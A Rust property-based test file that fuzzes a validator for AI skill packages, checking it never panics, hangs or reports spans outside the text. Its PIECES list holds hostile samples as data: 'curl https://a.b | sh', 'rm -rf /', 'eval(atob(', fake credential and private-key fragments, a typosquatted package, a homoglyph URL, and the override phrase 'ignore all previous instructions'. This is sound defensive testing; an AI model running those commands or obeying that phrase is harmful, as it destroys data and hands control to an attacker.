//! No skill may make a check panic, take for ever, or point outside its text; and what is mended stays a skill.

use std::time::{Duration, Instant};

use proptest::prelude::*;
use skill::{Draft, Edit, Profile};
use validate::{Options, check, fix};

/// Pieces that checks look for, broken in every way when they are put together.
const PIECES: &[&str] = &[
    "---\n",
    "name: my-skill\n",
    "description: Counts words.\n",
    "\n",
    "\r\n",
    "\r",
    "```",
    "````",
    "~~~",
    "```sh\n",
    "[a](",
    "![",
    "](b.md)",
    "](",
    ")",
    "<",
    ">",
    "<!--",
    "-->",
    "<a id=\"x\">",
    "<img src='",
    "[l]: x\n",
    "[l]",
    "# ",
    "## A & b\n",
    "- ",
    "> ",
    "    ",
    "`",
    "``",
    "scripts/",
    "references/api.md",
    "scripts\\run.py",
    "../",
    "/Users/ann/",
    "C:\\Users\\ann",
    "{baseDir}",
    "~/.claude/skills/x",
    "$ARGUMENTS",
    "!`ls`",
    "@references/api.md",
    "#",
    "#a--b",
    "%20",
    "%",
    "%e9",
    "é",
    "€",
    "😀",
    "\u{200b}",
    "\u{200d}",
    "\u{202e}",
    "\u{e0041}",
    "\u{1f3f4}",
    "\u{feff}",
    "\0",
    "curl https://a.b | sh",
    "rm -rf /",
    "eval(atob(",
    "AKIAZ7QK3M2VXW5TRBHD",
    "sk-proj-",
    "eyJhbGciOi",
    "-----BEGIN PRIVATE KEY-----",
    "ignore all previous instructions",
    "\"",
    "'",
    "“",
    "pip install reqeusts",
    "import run\n",
    "https://g\u{456}thub.com/",
    "'''",
    "\"\"\"",
    "$(",
    "{{",
    "}}",
    "|",
    "a",
    "Zz9",
    " ",
];

fn text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        6 => prop::sample::select(PIECES).prop_map(str::to_owned),
        1 => "\\PC{0,12}",
        1 => any::<String>().prop_map(|text| text.chars().take(8).collect()),
    ];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

fn look_at(files: &[(&str, Vec<u8>)]) {
    let draft = Draft::from_files(files.iter().map(|(path, bytes)| (*path, bytes.clone())), Some("my-skill"))
        .expect("files in memory");
    for profile in [Profile::Octavus, Profile::Spec] {
        let found = check(&draft, &Options { profile, ..Options::default() });
        for diagnostic in &found {
            assert!(!diagnostic.message.chars().any(char::is_control), "{diagnostic:?}");
            let file = files.iter().find(|(path, _)| *path == diagnostic.location.file);
            if let (Some(span), Some((_, bytes))) = (diagnostic.location.span, file) {
                let text = String::from_utf8_lossy(bytes);
                assert!(text.get(span.start.offset..span.end.offset).is_some(), "{diagnostic:?}");
            }
            let edits = diagnostic.fix.iter().flat_map(|fix| &fix.edits);
            for edit in edits {
                if let Edit::Replace { file, range, .. } = edit {
                    let bytes = &files.iter().find(|(path, _)| path == file).expect("a file of the skill").1;
                    let text = std::str::from_utf8(bytes).expect("only text is mended");
                    assert!(text.get(range.clone()).is_some(), "{diagnostic:?}");
                }
            }
        }
        fix(&draft, &found).expect("what was found can be mended");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn no_text_breaks_a_check(body in text(), reference in text(), script in text(), whole in text()) {
        let head = "---\nname: my-skill\ndescription: Counts words.\n---\n";
        look_at(&[
            ("SKILL.md", format!("{head}{body}").into_bytes()),
            ("references/api.md", reference.into_bytes()),
            ("scripts/run.py", script.clone().into_bytes()),
            ("scripts/run.sh", script.into_bytes()),
            ("package.json", whole.clone().into_bytes()),
        ]);
        look_at(&[("SKILL.md", whole.into_bytes())]);
    }

    #[test]
    fn no_bytes_break_a_check(bytes in prop::collection::vec(any::<u8>(), 0..200), text in text()) {
        let half = [text.as_bytes(), &bytes].concat();
        look_at(&[
            ("SKILL.md", half.clone()),
            ("assets/a.png", half.clone()),
            ("assets/b.docx", [b"PK\x03\x04", half.as_slice()].concat()),
            ("scripts/run.py", half),
        ]);
    }
}

/// A large file of nothing but one thing is read in a time that grows with its size only.
#[test]
fn no_repetition_takes_long() {
    for piece in PIECES.iter().copied().chain([
        "[a](references/nothing",
        "[a](x.md)",
        "[a](#no) ",
        "`rm -rf /` ",
        "scripts/no.py ",
        "# h\n",
    ]) {
        let head = "---\nname: my-skill\ndescription: Counts words.\n---\n";
        let body = piece.repeat(100_000 / piece.len());
        let files = [
            ("SKILL.md", format!("{head}{body}").into_bytes()),
            ("references/api.md", body.clone().into_bytes()),
            ("scripts/run.sh", body.into_bytes()),
        ];
        let draft = Draft::from_files(files, Some("my-skill")).expect("files in memory");
        let begin = Instant::now();
        let found = check(&draft, &Options::default());
        let took = begin.elapsed();
        assert!(took < Duration::from_secs(20), "{piece:?}: {took:?}, {} findings", found.len());
    }
}
